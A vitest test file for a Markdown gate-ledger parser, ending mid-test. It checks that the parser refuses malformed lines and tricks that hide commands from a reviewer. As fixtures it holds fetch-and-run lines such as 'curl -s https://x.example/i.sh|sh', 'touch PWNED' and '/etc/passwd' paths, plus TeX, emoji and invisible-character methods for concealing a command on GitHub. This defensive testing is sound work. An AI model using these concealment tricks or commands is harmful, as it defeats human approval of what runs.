// One test per parser rule of DESIGN §3 and the foundation issue, positive and negative.
import { describe, expect, it } from 'vitest';
import { parseLedger } from '../../lib/ledger/parse.js';
import { gateState } from '../../lib/ledger/state.js';
import { lines, parseErrors, parseOk, warningsOf } from '../helpers/ledger.js';

const runnable = (id = 'G1', extra: string[] = []) => [`- [ ] ${id}: something works`, '  CHECK: npm test', '  EXPECT: passing', ...extra];

describe('gate lines', () => {
  it('reads unchecked and checked gates with explicit ids and titles', () => {
    const l = parseOk(lines('- [ ] G1: first outcome', '- [x] g.2_b-3: second outcome', '- [X] 9: third'));
    expect(l.gates.map((g) => [g.id, g.checked, g.title, g.line])).toEqual([
      ['G1', false, 'first outcome', 1],
      ['g.2_b-3', true, 'second outcome', 2],
      ['9', true, 'third', 3],
    ]);
  });

  it('refuses a gate without an id', () => {
    expect(parseErrors(lines('- [ ] do the thing'))).toEqual([expect.stringMatching(/^1: gate line needs an explicit id/)]);
  });

  it('refuses an empty id', () => {
    expect(parseErrors(lines('- [ ] : title'))[0]).toMatch(/^1: empty gate id/);
  });

  it('refuses ids outside [A-Za-z0-9][A-Za-z0-9._-]*', () => {
    for (const id of ['-G1', '.G', 'G 1', 'G/1', 'Gé', '_x']) {
      expect(parseErrors(lines(`- [ ] ${id}: title`))[0], id).toMatch(/invalid gate id/);
    }
  });

  it('refuses a blank title', () => {
    expect(parseErrors(lines('- [ ] G1:   '))[0]).toMatch(/^1: gate G1 has a blank title/);
  });

  it('refuses duplicate ids and names both lines', () => {
    expect(parseErrors(lines('- [ ] G1: a', '', '- [ ] G1: b'))).toEqual(['3: duplicate gate id G1 (lines 1 and 3)']);
  });

  it('refuses malformed task lines at column 0 instead of ignoring them', () => {
    for (const l of ['* [ ] G1: x', '+ [ ] G1: x', '1. [ ] G1: x', '-  [ ] G1: x', '- [ ]\tG1: x', '- [x]']) {
      expect(parseErrors(lines('- [ ] G0: fine', l))[0], l).toMatch(/^2: malformed gate line/);
    }
  });

  it('refuses an indented (nested) task item and does not attach its attributes to the gate above', () => {
    const errs = parseErrors(lines('- [ ] G1: parent', '  - [ ] G2: nested', '    CHECK: rm -rf build', '    EXPECT: ok'));
    expect(errs).toEqual([expect.stringMatching(/^2: nested task item/)]);
  });

  it('refuses a task item inside a block quote', () => {
    expect(parseErrors(lines('- [ ] G1: a', '> - [ ] G2: quoted'))[0]).toMatch(/^2: task item inside a block quote/);
  });

  it('errors on zero gates', () => {
    expect(parseErrors(lines('# Gates', '', 'nothing here'))).toEqual([expect.stringMatching(/^1: no gates/)]);
    expect(parseErrors('')).toEqual([expect.stringMatching(/no gates/)]);
  });

  it('accepts a leading BOM and CRLF line endings', () => {
    const l = parseOk('\ufeff- [ ] G1: a\r\n  CHECK: x\r\n  EXPECT: y\r\n');
    expect(l.gates[0]).toMatchObject({ id: 'G1', check: 'x', expectRaw: 'y', kind: 'runnable' });
  });

  it('refuses a bare carriage return, which renderers treat as a line break', () => {
    expect(parseErrors('- [ ] G1: a\r  CHECK: evil\n')[0]).toMatch(/^1: bare carriage return/);
  });

  it('refuses NUL bytes', () => {
    expect(parseErrors(lines('- [ ] G1: a\u0000b'))[0]).toMatch(/^1: NUL byte/);
  });
});

describe('attributes', () => {
  it('reads CHECK EXPECT CWD DEPENDS EVIDENCE as plain strings, exactly', () => {
    const l = parseOk(
      lines('- [x] G1: t', '  CHECK: echo 1.10 #x: y', '  EXPECT: 1.10 #x', '  CWD: ./pkg/a/', '  DEPENDS: ./a.js, b\\c.js', '  EVIDENCE: exit=0; sha256=abc'),
    );
    expect(l.gates[0]).toMatchObject({
      check: 'echo 1.10 #x: y',
      expectRaw: '1.10 #x',
      cwd: 'pkg/a',
      depends: ['a.js', 'b/c.js'],
      evidence: 'exit=0; sha256=abc',
    });
  });

  it('reads TIMEOUT as whole seconds 1..86400 and INPUTS as globs, and refuses anything else', () => {
    const g = parseOk(lines('- [ ] G1: t', '  CHECK: a', '  EXPECT: b', '  TIMEOUT: 300', '  INPUTS: ./src/**/*.js, test\\x.js')).gates[0]!;
    expect(g).toMatchObject({ timeoutSeconds: 300, inputs: ['src/**/*.js', 'test/x.js'] });
    expect(parseOk(lines('- [ ] G1: t', '  CHECK: a', '  EXPECT: b')).gates[0]).toMatchObject({ timeoutSeconds: null, inputs: null });
    for (const bad of ['0', '86401', '1.5', '-3', '60s', '1e3', '007', ' ', '999999999999']) {
      expect(parseErrors(lines('- [ ] G1: t', '  CHECK: a', '  EXPECT: b', `  TIMEOUT: ${bad}`)).join('\n'), bad).toMatch(/4: (TIMEOUT must be a whole number of seconds from 1 to 86400|blank)/);
    }
    expect(parseErrors(lines('- [ ] G1: t', '  CHECK: a', '  EXPECT: b', '  INPUTS: ../x'))[0]).toMatch(/^4: INPUTS: '\.\.' segment/);
    expect(parseErrors(lines('- [ ] G1: t', '  CHECK: a', '  EXPECT: b', '  INPUTS: /etc/passwd'))[0]).toMatch(/^4: INPUTS: absolute path/);
    expect(warningsOf(lines('- [x] G1: t', '  TIMEOUT: 5', '  INPUTS: a'))).toEqual([expect.stringMatching(/^2: TIMEOUT on manual gate/), expect.stringMatching(/^3: INPUTS on manual gate/)]);
  });

  it('accepts tab indentation', () => {
    expect(parseOk(lines('- [ ] G1: t', '\tCHECK: a', '\tEXPECT: b')).gates[0]!.kind).toBe('runnable');
  });

  it('refuses an unindented attribute', () => {
    for (const k of ['CHECK', 'EXPECT', 'CWD', 'DEPENDS', 'EVIDENCE']) {
      expect(parseErrors(lines('- [ ] G1: t', `${k}: x`))[0], k).toMatch(new RegExp(`^2: unindented ${k}`));
    }
  });

  it('refuses an attribute before any gate', () => {
    expect(parseErrors(lines('# Gates', '  CHECK: x', '- [ ] G1: t'))[0]).toMatch(/^2: CHECK is not under a gate \(no gate above it\)/);
  });

  it('refuses an attribute after the gate body ended, naming where it ended', () => {
    const errs = parseErrors(lines(...runnable(), '', '## Notes', '  EVIDENCE: forged'));
    expect(errs).toEqual(['6: EVIDENCE is not under a gate (gate G1 ended at line 5)']);
  });

  it('refuses duplicated attributes, naming the first', () => {
    for (const k of ['CHECK', 'EXPECT', 'CWD', 'DEPENDS', 'EVIDENCE']) {
      const src = lines('- [ ] G1: t', '  CHECK: a', '  EXPECT: b', '  CWD: x', '  DEPENDS: d', '  EVIDENCE: pending', `  ${k}: again`);
      expect(parseErrors(src)[0], k).toMatch(new RegExp(`^7: duplicate ${k} for G1 \\(first at line \\d\\)`));
    }
  });

  it('refuses attribute names not in upper case', () => {
    expect(parseErrors(lines('- [ ] G1: t', '  Check: npm test', '  EXPECT: x'))).toEqual([expect.stringMatching(/^2: attribute names are upper case: write CHECK/)]);
  });

  it('warns on an unknown upper-case attribute and ignores it', () => {
    expect(warningsOf(lines('- [ ] G1: t', '  RETRIES: 5'))).toEqual([expect.stringMatching(/^2: unknown attribute RETRIES ignored/)]);
  });

  it('keeps free text under a gate', () => {
    const l = parseOk(lines(...runnable(), '  Notes: this explains why.', '  - a plain bullet'));
    expect(l.gates[0]!.kind).toBe('runnable');
  });

  it('does not route fields through YAML', () => {
    const l = parseOk(lines('- [ ] G1: t', '  CHECK: echo #x', '  EXPECT: 1.10'));
    expect(l.gates[0]!.check).toBe('echo #x');
    expect(l.gates[0]!.expectRaw).toBe('1.10');
  });

  it('refuses control and bidi characters in CHECK, EXPECT, CWD and DEPENDS', () => {
    for (const ch of ['\u001b', '\u0007', '\u009b', '\u202e', '\u2066', '\u200f', '\u061c', '\u2028']) {
      // (A bidi control is also refused for the whole line: test/ledger/reader-fidelity.test.ts.)
      expect(parseErrors(lines('- [ ] G1: t', `  CHECK: echo a${ch}b`, '  EXPECT: ab'))).toContainEqual(expect.stringMatching(/^2: CHECK contains the control character U\+/));
    }
    expect(parseErrors(lines('- [ ] G1: t', '  CHECK: a', '  EXPECT: b', '  CWD: x\u202ey'))).toContainEqual(expect.stringMatching(/^4: CWD contains/));
  });
});

describe('runnable and manual gates', () => {
  it('a gate with CHECK and EXPECT is runnable; with neither, manual', () => {
    const l = parseOk(lines(...runnable('G1'), '- [ ] G2: a person decides', '  EVIDENCE: pending'));
    expect(l.gates.map((g) => g.kind)).toEqual(['runnable', 'manual']);
  });

  it('refuses CHECK without EXPECT and EXPECT without CHECK', () => {
    expect(parseErrors(lines('- [ ] G1: t', '  CHECK: x'))).toEqual([expect.stringMatching(/^1: G1 has CHECK but no EXPECT/)]);
    expect(parseErrors(lines('- [ ] G1: t', '  EXPECT: x'))).toEqual([expect.stringMatching(/^1: G1 has EXPECT but no CHECK/)]);
  });

  it('refuses blank CHECK or EXPECT', () => {
    expect(parseErrors(lines('- [ ] G1: t', '  CHECK:  ', '  EXPECT: x'))[0]).toMatch(/^2: blank CHECK for G1/);
    expect(parseErrors(lines('- [ ] G1: t', '  CHECK: x', '  EXPECT:'))[0]).toMatch(/^3: blank EXPECT for G1/);
  });
});

describe('EXPECT', () => {
  it('treats /source/flags as a regex and anything else as a substring', () => {
    const l = parseOk(lines(...runnable('A').slice(0, 2), '  EXPECT: /passed \\(\\d+\\)/i', '- [ ] B: t', '  CHECK: x', '  EXPECT: /usr/bin/node'));
    expect(l.gates[0]!.expect).toEqual({ kind: 'regex', source: 'passed \\(\\d+\\)', flags: 'i' });
    expect(l.gates[1]!.expect).toEqual({ kind: 'substring', text: '/usr/bin/node' });
  });

  it('refuses an invalid regex', () => {
    expect(parseErrors(lines('- [ ] G1: t', '  CHECK: x', '  EXPECT: /a(b/'))[0]).toMatch(/^3: invalid EXPECT regex/);
    expect(parseErrors(lines('- [ ] G1: t', '  CHECK: x', '  EXPECT: /ab/gg'))[0]).toMatch(/^3: invalid EXPECT regex/);
  });

  it('refuses a regex source over 1,000 characters, accepts 1,000', () => {
    expect(parseOk(lines('- [ ] G1: t', '  CHECK: x', `  EXPECT: /${'a'.repeat(1000)}/`)).gates[0]!.kind).toBe('runnable');
    expect(parseErrors(lines('- [ ] G1: t', '  CHECK: x', `  EXPECT: /${'a'.repeat(1001)}/`))[0]).toMatch(/^3: EXPECT regex source is 1001 characters/);
  });

  it('warns on an unescaped inner slash, not on an escaped one or one in a class', () => {
    expect(warningsOf(lines('- [ ] G1: t', '  CHECK: x', '  EXPECT: /a/b/'))).toEqual([expect.stringMatching(/^3: EXPECT regex .* unescaped '\/'/)]);
    expect(warningsOf(lines('- [ ] G1: t', '  CHECK: x', '  EXPECT: /a\\/b[/]/'))).toEqual([]);
  });
});

describe('DEPENDS, OWNS and CWD paths', () => {
  it('normalizes ./ and backslashes, keeps brace groups whole', () => {
    const l = parseOk(lines('OWNS: ./src\\import/**, tests/{a,b}/**', '', '- [ ] G1: t', '  CHECK: x', '  EXPECT: y', '  DEPENDS: ./scripts//v.mjs, src/{a,b}.js'));
    expect(l.owns).toEqual(['src/import/**', 'tests/{a,b}/**']);
    expect(l.gates[0]!.depends).toEqual(['scripts/v.mjs', 'src/{a,b}.js']);
  });

  it('refuses absolute, drive-letter, UNC, home, .. and NUL paths in DEPENDS', () => {
    const bad = ['/etc/passwd', 'C:\\x', 'c:/x', '\\\\server\\share', '//server/share', '~/x', '../x', 'a/../../x', 'a/..', '!src/**'];
    for (const p of bad) {
      expect(parseErrors(lines('- [ ] G1: t', '  CHECK: x', '  EXPECT: y', `  DEPENDS: ok.js, ${p}`))[0], p).toMatch(/^4: DEPENDS: /);
    }
  });

  it('refuses an empty entry in DEPENDS', () => {
    expect(parseErrors(lines('- [ ] G1: t', '  CHECK: x', '  EXPECT: y', '  DEPENDS: a.js,,b.js'))[0]).toMatch(/^4: DEPENDS: empty path/);
  });

  it('applies the same rules to OWNS', () => {
    expect(parseErrors(lines('OWNS: src/**, /abs', '- [ ] G1: t'))[0]).toMatch(/^1: OWNS: absolute path/);
    expect(parseErrors(lines('OWNS: ../up', '- [ ] G1: t'))[0]).toMatch(/^1: OWNS: '\.\.' segment/);
  });

  it('accepts OWNS only before the first gate and only at column 0', () => {
    expect(parseErrors(lines('- [ ] G1: t', 'OWNS: src/**'))[0]).toMatch(/^2: OWNS must come before the first gate/);
    expect(parseErrors(lines('  OWNS: src/**', '- [ ] G1: t'))[0]).toMatch(/^1: OWNS must start at column 0/);
  });

  it('refuses absolute CWD, allows a relative one with ..', () => {
    expect(parseErrors(lines('- [ ] G1: t', '  CHECK: x', '  EXPECT: y', '  CWD: /tmp'))[0]).toMatch(/^4: CWD: absolute path/);
    expect(parseOk(lines('- [ ] G1: t', '  CHECK: x', '  EXPECT: y', '  CWD: ../sibling')).gates[0]!.cwd).toBe('../sibling');
  });
});

describe('ABANDON', () => {
  it('abandons a known gate with a reason', () => {
    const l = parseOk(lines(...runnable(), '', 'ABANDON: G1 the vendor API was retired'));
    expect(l.gates[0]!.abandon).toEqual({ reason: 'the vendor API was retired', line: 5 });
    expect(gateState(l.gates[0]!)).toBe('abandoned');
  });

  it('may come before the gate it names', () => {
    expect(parseOk(lines('ABANDON: G1 reason', ...runnable())).gates[0]!.abandon?.line).toBe(1);
  });

  it('refuses a blank reason', () => {
    expect(parseErrors(lines(...runnable(), 'ABANDON: G1   '))[0]).toMatch(/^4: ABANDON G1 needs a non-blank reason/);
  });

  it('refuses an unknown id', () => {
    expect(parseErrors(lines(...runnable(), 'ABANDON: G9 typo'))).toEqual(['4: ABANDON names unknown gate G9']);
  });

  it('refuses a second ABANDON for the same id', () => {
    expect(parseErrors(lines(...runnable(), 'ABANDON: G1 a', 'ABANDON: G1 b'))).toEqual(['5: duplicate ABANDON for G1 (first at line 4)']);
  });

  it('refuses an indented ABANDON', () => {
    expect(parseErrors(lines(...runnable(), '  ABANDON: G1 reason'))[0]).toMatch(/^4: ABANDON must start at column 0/);
  });

  it('refuses a lower-case abandon', () => {
    expect(parseErrors(lines(...runnable(), 'Abandon: G1 reason'))[0]).toMatch(/^4: write ABANDON in upper case/);
  });

  it('refuses ABANDON and OWNS without their colon (they would be prose, and the gate stay open unnoticed)', () => {
    expect(parseErrors(lines(...runnable(), 'ABANDON G1 reason'))[0]).toMatch(/^4: ABANDON needs a colon: write ABANDON: ID reason/);
    expect(parseErrors(lines('OWNS src/**', '', ...runnable()))[0]).toMatch(/^1: OWNS needs a colon: write OWNS: PATTERN/);
    // Prose that only starts with the word is prose.
    expect(parseOk(lines(...runnable(), '', 'ABANDONED plans are listed elsewhere.', 'Abandon G1 if it is blocked.')).gates).toHaveLength(1);
  });
});

describe('code fences (CommonMark)', () => {
  it('ignores gates, attributes and ABANDON inside backtick and tilde fences', () => {
    const src = lines('- [ ] G1: real', '```markdown', '- [ ] G2: example', '  CHECK: x', 'ABANDON: G1 no', '```', '~~~~', '- [x] G3: e', '~~~~');
    const l = parseOk(src);
    expect(l.gates.map((g) => g.id)).toEqual(['G1']);
    expect(l.gates[0]!.abandon).toBeNull();
  });

  it('closes only on the same marker, at least as long, with nothing after it', () => {
    const src = lines('````', '```', '~~~~', '```` x', '- [ ] G2: still inside', '````  ', '- [ ] G1: outside');
    expect(parseOk(src).gates.map((g) => g.id)).toEqual(['G1']);
  });

  it('allows up to three spaces of indentation on the fence, not four', () => {
    expect(parseOk(lines('   ```', '- [ ] G2: hidden', '   ```', '- [ ] G1: seen')).gates.map((g) => g.id)).toEqual(['G1']);
    // Under a gate line, four spaces is a fence inside the gate's list item (content at column
    // 2) for a renderer, ended with the item: refused rather than guessed.
    expect(parseErrors(lines('- [ ] G1: a', '    ```', '- [ ] G2: b'))[0]).toMatch(/^2: indented code fence/);
    // At the top level, four spaces is indented code: no fence, the gate after it counts.
    expect(parseOk(lines('# Notes', '', '    ```', '', '- [ ] G2: b')).gates.map((g) => g.id)).toEqual(['G2']);
  });

  it('does not open a backtick fence whose info string contains a backtick', () => {
    expect(parseOk(lines('``` a`b', '- [ ] G1: seen')).gates.map((g) => g.id)).toEqual(['G1']);
  });

  it('refuses an unclosed fence', () => {
    expect(parseErrors(lines('- [ ] G1: a', '```js', '- [ ] G2: b'))).toEqual(['2: unclosed code fence (``` opened here)']);
  });
});

describe('HTML comments', () => {
  it('ignores gates and attributes inside comments (they render invisibly), with a warning for gates', () => {
    const src = lines('- [x] G1: visible', '  CHECK: npm test', '  EXPECT: ok', '<!--', '- [ ] G2: hidden', '  CHECK: true', '-->');
    const r = parseLedger(src);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.ledger.gates.map((g) => g.id)).toEqual(['G1']);
    expect(r.ledger.warnings.map((w) => w.line)).toEqual([5]);
  });

  it('does not let a hidden attribute attach to the visible gate above', () => {
    const src = lines('- [x] G1: visible', '  <!--', '  CHECK: true', '  EXPECT: ', '  -->', '  EVIDENCE: pending');
    const l = parseOk(src);
    expect(l.gates[0]!.kind).toBe('manual');
  });

  it('handles one-line comments', () => {
    expect(parseOk(lines('<!-- - [ ] G0: hidden -->', '- [ ] G1: seen')).gates.map((g) => g.id)).toEqual(['G1']);
  });

  it('refuses an unclosed comment', () => {
    expect(parseErrors(lines('- [ ] G1: a', '<!-- note', '- [ ] G2: b'))).toEqual([expect.stringMatching(/^2: unclosed HTML comment/)]);
  });

  it('treats <!-- inside a fence as code, and ``` inside a comment as comment text', () => {
    expect(parseOk(lines('```', '<!--', '```', '- [ ] G1: a')).gates.length).toBe(1);
    expect(parseOk(lines('<!--', '```', '-->', '- [ ] G1: a')).gates.length).toBe(1);
  });
});

describe('all errors are reported', () => {
  it('reports every error of a file with its line, in line order', () => {
    const src = lines('CHECK: top', '- [ ] G1: t', '  CHECK: x', '- [ ] G1: dup', '- [ ] bad id: t', '  EXPECT: /(/', 'ABANDON: G7 x');
    const errs = parseErrors(src);
    expect(errs.map((e) => Number(e.split(':')[0]))).toEqual([1, 2, 4, 5, 7]);
  });
});

describe('state', () => {
  it('derives met, unmet, claimed and abandoned', () => {
    const l = parseOk(
      lines('- [x] A: t', '  EVIDENCE: exit=0', '- [ ] B: t', '- [x] C: t', '  EVIDENCE: pending', '- [x] D: t', '- [ ] E: t', 'ABANDON: E gone'),
    );
    expect(l.gates.map(gateState)).toEqual(['met', 'unmet', 'claimed', 'claimed', 'abandoned']);
  });
});

describe('near-misses of attribute names are errors on their own line (issue 9 §2)', () => {
  const gate = (line: string) => lines('- [x] G1: t', line, '  EXPECT: ok', '  EVIDENCE: exit=0');
  it('a zero-width space, a Cyrillic С, a fullwidth colon, mathematical bold letters: did you mean CHECK?', () => {
    for (const l of ['  CHE\u200bCK: npm test', '  \u0421HECK: npm test', '  CHECK\uff1a npm test', '  \ud835\udc02\ud835\udc07\ud835\udc04\ud835\udc02\ud835\udc0a: npm test', '  CHECK : npm test', '  ch\u0435ck: npm test']) {
      const errs = parseErrors(gate(l));
      expect(errs, JSON.stringify(l)).toEqual([expect.stringMatching(/^2: .*did you mean CHECK\?/)]);
    }
    expect(parseErrors(gate('  CHE\u200bCK: x'))[0]).toMatch(/U\+200B ZERO WIDTH SPACE/);
    expect(parseErrors(gate('  \u0421HECK: x'))[0]).toMatch(/U\+0421 \(looks like C\)/);
    expect(parseErrors(gate('  CHECK\uff1a x'))[0]).toMatch(/U\+FF1A instead of ':'/);
  });

  it('edit distance one, in upper case: DEPEND, CHEK, EXPECTS, INPUT, TIMEOUTS, EVIDENSE', () => {
    const cases: [string, string][] = [['DEPEND', 'DEPENDS'], ['CHEK', 'CHECK'], ['EXPECTS', 'EXPECT'], ['INPUT', 'INPUTS'], ['TIMEOUTS', 'TIMEOUT'], ['EVIDENSE', 'EVIDENCE'], ['CEHCK', 'CHECK']];
    for (const [typo, meant] of cases) {
      expect(parseErrors(lines('- [ ] G1: t', '  CHECK: a', '  EXPECT: b', `  ${typo}: x`)), typo).toEqual([`4: ${typo}: is not an attribute: did you mean ${meant}? (attributes: CHECK, EXPECT, CWD, DEPENDS, INPUTS, TIMEOUT, EVIDENCE)`]);
    }
  });

  it('CHEK: is reported on the typo, not as a missing CHECK on the gate line', () => {
    expect(parseErrors(lines('- [ ] G1: t', '  CHEK: npm test', '  EXPECT: ok'))).toEqual([expect.stringMatching(/^2: CHEK: is not an attribute: did you mean CHECK\?/)]);
  });

  it('an attribute indented with NBSP, or a typo directly under the gate line at column 0', () => {
    expect(parseErrors(lines('- [x] G1: t', '\u00a0\u00a0CHECK: npm test', '  EXPECT: ok'))[0]).toMatch(/^2: .*U\+00A0 NO-BREAK SPACE.*did you mean CHECK\?|^2: .*did you mean CHECK\?/);
    expect(parseErrors(lines('- [x] G1: t', 'CHEK: npm test'))[0]).toMatch(/^2: CHEK: is not an attribute: did you mean CHECK\?/);
  });

  it('prose notes are not taken for attributes', () => {
    const l = parseOk(lines('- [ ] G1: t', '  CHECK: a', '  EXPECT: b', '  Note: see the docs', '  Input: the fixture', '  Checks the output manually', '  RETRIES: 3'));
    expect(l.gates[0]!.kind).toBe('runnable');
    expect(warningsOf(lines('- [ ] G1: t', '  RETRIES: 3'))).toEqual([expect.stringMatching(/unknown attribute RETRIES/)]);
  });
});

describe('invisible characters in values are refused with the code point named (issue 9 §2)', () => {
  it('Cf characters, TAB and non-ASCII spaces in CHECK, EXPECT, CWD, DEPENDS and INPUTS', () => {
    const cases: [string, string][] = [
      ['\u200b', 'U+200B ZERO WIDTH SPACE'],
      ['\u200d', 'U+200D ZERO WIDTH JOINER'],
      ['\u2060', 'U+2060 WORD JOINER'],
      ['\ufeff', 'U+FEFF ZERO WIDTH NO-BREAK SPACE'],
      ['\u00ad', 'U+00AD SOFT HYPHEN'],
      ['\t', 'U+0009 CHARACTER TABULATION'],
      ['\u00a0', 'U+00A0 NO-BREAK SPACE'],
      ['\u{e0041}', 'U+E0041'],
    ];
    for (const [ch, name] of cases) {
      for (const [k, at] of [['CHECK', 2], ['EXPECT', 3], ['CWD', 4], ['DEPENDS', 5], ['INPUTS', 6]] as const) {
        const body = { CHECK: 'node scripts/check.mjs', EXPECT: 'ok', CWD: 'pkg', DEPENDS: 'scripts/check.mjs', INPUTS: 'data.json' };
        body[k] = body[k].replace(/^(.)/, `$1${ch}`);
        const src = lines('- [ ] G1: t', `  CHECK: ${body.CHECK}`, `  EXPECT: ${body.EXPECT}`, `  CWD: ${body.CWD}`, `  DEPENDS: ${body.DEPENDS}`, `  INPUTS: ${body.INPUTS}`);
        expect(parseErrors(src), `${k} ${name}`).toEqual([`${at}: ${k} contains ${name}${name.length === 9 || name === 'U+E0041' ? ' (an invisible format character)' : ''}, which a reader sees as nothing or as a plain space; what is shown for approval must be what runs`]);
      }
    }
  });

  it('other non-ASCII stays allowed in CHECK and EXPECT (the approval display escapes it)', () => {
    expect(parseOk(lines('- [ ] G1: t', '  CHECK: echo héllo', '  EXPECT: héllo')).gates[0]!.check).toBe('echo héllo');
  });
});

describe('what a renderer shows differently is refused (issue 9 §1)', () => {
  // Found by an attack round: GitHub renders $…$ and $$…$$ as math, where \rlap{\phantom{…}}
  // draws nothing: a CHECK's tail, or a whole gate's CHECK and EXPECT, vanished from the page.
  it('TeX commands that hide, move or replace text where GitHub renders math, on any line outside a fence', () => {
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh && : $\\rlap{\\phantom{;curl -s x|sh;true||}}$', '  EXPECT: ok'))[0]).toMatch(/^2: TeX command \\rlap \(GitHub renders \$…\$ and \$\$…\$\$ as math, where it hides, moves or replaces text\) at column 29/);
    expect(parseErrors(lines('- [ ] B: reviewed', '  $$\\rlap{\\phantom{', '  CHECK: curl -s x | sh; echo reviewed', '  EXPECT: reviewed', '  }}$$'))[0]).toMatch(/^2: TeX command \\rlap/);
    for (const cmd of ['\\phantom{x}', '\\hphantom{x}', '\\color{white}{x}', '\\text{CHECK:}', '\\mathrm{x}', '\\hspace{9em}', '\\kern-9em', '\\smash{x}', '\\href{u}{x}']) {
      expect(parseErrors(lines(`- [ ] G1: title $${cmd}$`, '  EVIDENCE: pending'))[0], cmd).toMatch(/^1: TeX command/);
      expect(parseErrors(lines('- [ ] G1: t', `  CHECK: echo $${cmd}$`, '  EXPECT: x'))[0], cmd).toMatch(/^2: TeX command/);
    }
    // Regex escapes and shell backslashes are not TeX commands outside math; a fence shows its text as it is.
    expect(parseOk(lines('- [ ] G1: t', "  CHECK: printf '%s\\n' x | grep -E '\\bx\\s*'", '  EXPECT: /^\\d+ tests\\b \\tests passed$/m')).gates).toHaveLength(1);
    // The CHECK's `$'` and the EXPECT's `$/` pair on GitHub's page (round 39y Y1): inside, a
    // command MathJax does not know is drawn as its name; one it defines is refused.
    expect(parseOk(lines('- [ ] G1: t', "  CHECK: printf '%s\\n' x | grep -E '\\bx\\s*$'", '  EXPECT: /^\\d+ tests\\b \\tests passed$/m')).gates).toHaveLength(1);
    expect(parseErrors(lines('- [ ] G1: t', "  CHECK: printf '%s\\n' x | grep -E '\\bx\\s*$'", '  EXPECT: /^\\d+ \\lt tests passed$/m'))[0]).toMatch(/^3: TeX command \\lt inside/);
    expect(parseOk(lines('```', '$\\phantom{x}$', '```', '- [ ] G1: t', '  CHECK: x', '  EXPECT: y')).gates).toHaveLength(1);
  });

  // Found by attack round 41b (F3): GitHub draws `:name:` as an emoji, so `CHECK:cool:` shows
  // as `CHECK😎` and the line no longer reads as an attribute.
  it('an attribute whose value starts with an emoji name and a colon, right after the label', () => {
    for (const key of ['CHECK', 'EXPECT', 'CWD', 'DEPENDS', 'INPUTS']) {
      const line = `  ${key}:cool:;curl -s https://x.example/i.sh|sh;echo ok`;
      const src = key === 'CHECK' ? lines('- [ ] A: t', line, '  EXPECT: ok') : key === 'EXPECT' ? lines('- [ ] A: t', '  CHECK: sh v.sh', line) : lines('- [ ] A: t', '  CHECK: sh v.sh', '  EXPECT: ok', line);
      expect(parseErrors(src)[0], key).toMatch(new RegExp(`^\\d: ${key}: is followed by "cool:" with no blank: GitHub can draw ":cool:" as an emoji`));
    }
    // A blank after the label, or no second colon: the label stays.
    for (const check of [' :cool: echo ok', 'echo ok', ' echo a:b', 'x_y+z']) {
      expect(parseOk(lines('- [ ] A: t', `  CHECK:${check}`, '  EXPECT: ok')).gates, check).toHaveLength(1);
    }
  });

  // Found by attack round 39z (Z1): TeX syntax used wrongly makes MathJax draw an error
  // message in place of the whole formula, and with it the command between the dollar signs.
  // Each character goes through the whole parser (which reads a ledger the fast way unless it
  // holds one of them), on a line of its own; tex-math.test.ts checks the rule against MathJax.
  it('TeX syntax that makes the page show an error box in place of a formula (round 39z Z1)', () => {
    const cases: [string, string, RegExp][] = [
      ['}', 'sh verify.sh $};touch PWNED;sh verify.sh b$', /"}" inside \$…\$ at column 24: GitHub renders the dollar pair as math, where it closes no brace, so the page shows an error box in place of the whole formula; put the command in a script/],
      ['{', 'sh verify.sh $x{;touch PWNED;sh verify.sh b$', /"\{" inside \$…\$ at column 25: .* where no brace closes it/],
      ['#', 'sh verify.sh $#;touch PWNED;sh verify.sh b$', /"#" inside .* where it is misplaced outside a TeX alignment or macro/],
      ['&', 'sh verify.sh $&;touch PWNED;sh verify.sh b$', /"&" inside .* where it is misplaced/],
      ['^', 'sh verify.sh $x^1^2;touch PWNED;sh verify.sh b$', /"\^" inside \$…\$ at column 27: .* where its base has a superscript already/],
      ['_', 'sh verify.sh $x_1_2;touch PWNED;sh verify.sh b$', /"_" inside \$…\$ at column 27: .* where its base has a subscript already/],
      ["'", "sh verify.sh $x^a';touch PWNED;sh verify.sh b$", /"'" inside .* where a prime is a superscript, and its base has one already/],
      ['\u2019', 'sh verify.sh $x^a\u2019;touch PWNED;sh verify.sh b$', /"\u2019" inside .* where a prime is a superscript/],
      ['@', 'sh verify.sh $x@>;touch PWNED;sh verify.sh b$', /"@>" inside .* where it is an arrow of a TeX diagram/],
      ['^ (no argument)', 'sh verify.sh $x;touch PWNED;sh verify.sh b^$', /"\^" inside .* where its argument is missing \(the formula ends\)/],
      // Primes before a subscript become the base's superscript: a prime after it is a second one.
      ["_ after '", "sh verify.sh $x'_a';touch PWNED;sh verify.sh b$", /"'" inside \$…\$ at column 28: .* where a prime is a superscript, and its base has one already/],
    ];
    for (const [what, check, message] of cases) {
      expect(parseErrors(lines('- [ ] A: t', `  CHECK: ${check}`, '  EXPECT: ok'))[0], what).toMatch(new RegExp(`^2: ${message.source}`));
    }
    // A backslash that ends a line inside a pair (what follows it is the line break) is refused.
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $x;touch PWNED \\', '  EXPECT: b$'))[0]).toMatch(/^2: "\\" inside \$…\$ at column 38: .* where a backslash ends the line/);
    // A $`…`$ whose close is on a later line is read as a plain pair (round-40a F7), where its
    // backticks are refused.
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $`x;touch PWNED \\', '  EXPECT: b`$'))[0]).toMatch(/^2: "`" inside \$…\$ at column 24: .* where a code span and the formula overlap/);
    // Across the lines of a gate: the CHECK's "$HOME" pairs with the EXPECT's "ok$".
    expect(parseErrors(lines('- [ ] A: t', '  CHECK: cd "$HOME" && ./check', '  EXPECT: /ok$/'))[0]).toMatch(/^2: "&" inside/);
    // Braces that balance and one script per base render, every character drawn: allowed.
    expect(parseOk(lines('- [ ] A: t', '  CHECK: PATH="${HOME}"/bin:"$PATH" check', '  EXPECT: ok')).gates).toHaveLength(1);
    expect(parseOk(lines('- [ ] A: t', '  CHECK: echo ok >> $GITHUB_STEP_SUMMARY; cat $RUNNER_TEMP/x', '  EXPECT: ok')).gates).toHaveLength(1);
    expect(parseOk(lines('- [ ] A: t', "  CHECK: printf 'a' \"$x\" 'b$' c", '  EXPECT: ok')).gates).toHaveLength(1);
    // Outside a pair, TeX syntax is plain text.
    expect(parseOk(lines('- [ ] A: t', '  CHECK: test -d x && echo "${#x}" }', '  EXPECT: /^ok_1_2 x/')).gates).toHaveLength(1);
    // ... unless a closing $ after a blank pairs with it, as GitHub may (round 40b N6).
